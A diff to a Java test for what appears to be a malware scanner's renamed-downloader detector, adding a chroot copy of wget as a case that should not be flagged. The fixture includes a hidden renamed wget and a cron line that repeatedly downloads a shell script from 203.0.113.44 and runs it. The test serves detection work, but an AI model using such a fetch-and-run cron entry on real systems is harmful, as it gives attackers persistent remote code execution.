@@ -43,10 +43,12 @@ class RenamedDownloaderTest {
                 .file("/var/lib/dpkg/info/wget.md5sums", md5 + "  usr/bin/wget\n")
                 .file("/usr/bin/wget", WGET)
                 .file("/tmp/.X11-cache/kworker", WGET)
+                .file("/tmp/chroot/usr/bin/wget", WGET) // a copied tree keeps the name: not a renamed tool
                 .file("/etc/cron.d/kworker", "*/7 * * * * root /tmp/.X11-cache/kworker -q -O- "
                         + "http://203.0.113.44/k.sh > /tmp/.X11-cache/k.sh; sh /tmp/.X11-cache/k.sh\n");
         tree.at("/tmp/.X11-cache/kworker").toFile().setExecutable(true);
         tree.at("/usr/bin/wget").toFile().setExecutable(true);
+        tree.at("/tmp/chroot/usr/bin/wget").toFile().setExecutable(true);
         DetectionData data = DetectionData.builtIn();
         ScanResult result = new ScanEngine(Catalog.linuxCollectors(data), Catalog.primaryDetectors(),
                 Catalog.pivotDetectors(), Clock.systemUTC()).run(new ScanRequest(
